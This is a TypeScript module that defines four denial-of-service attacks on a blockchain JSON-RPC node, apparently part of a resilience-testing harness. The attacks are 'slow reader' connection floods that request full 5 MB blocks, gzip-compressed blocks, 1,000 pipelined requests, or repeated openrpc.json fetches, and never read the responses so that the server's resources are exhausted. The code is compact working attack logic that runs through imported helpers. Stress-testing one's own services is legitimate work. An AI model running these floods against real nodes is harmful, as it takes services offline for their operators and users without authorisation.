/** 200 connections ask for a block of 5 MB and never read the answer. */

import { type Attack, hosts } from '../attack.ts';
import { request, unread } from '../many.ts';
import { FULL_BLOCK } from '../node-answers.ts';
import { post } from '../raw.ts';

export const unreadHttp: Attack = {
  name: 'non-readers over HTTP',
  run(target, seen, signal) {
    const bytes = [post(target, hosts.node, request('eth_getBlockByNumber', FULL_BLOCK))];
    return unread(200, { target, seen, signal }, { bytes, probe: '\r\n' });
  },
};

/** The same, with an answer that the service compresses. */
export const unreadCompressed: Attack = {
  name: 'compressed non-readers',
  run(target, seen, signal) {
    const bytes = [
      post(target, hosts.node, request('eth_getBlockByNumber', FULL_BLOCK), ['Accept-Encoding: gzip']),
      post(target, hosts.node, request('eth_getBlockByNumber', FULL_BLOCK), ['Accept-Encoding: gzip']),
    ];
    return unread(200, { target, seen, signal }, { bytes, probe: '\r\n' });
  },
};

/** Connections that send 1,000 requests at once (HTTP/1.1 pipelining) and never read an answer. */
export const pipelines: Attack = {
  name: 'unread pipelines',
  run(target, seen, signal) {
    const one = post(target, hosts.node, request('web3_clientVersion'));
    const bytes = [Buffer.concat(Array.from({ length: 1_000 }, () => one))];
    return unread(100, { target, seen, signal }, { bytes, probe: '\r\n' });
  },
};

/** Connections without a key that ask for the contract many times and never read it. */
export const unreadFiles: Attack = {
  name: 'unread files',
  run(target, seen, signal) {
    const one = `GET /openrpc.json HTTP/1.1\r\nHost: ${hosts.node}\r\n\r\n`;
    return unread(1_500, { target, seen, signal }, { bytes: [Buffer.from(one.repeat(16))], probe: '\r\n' });
  },
};
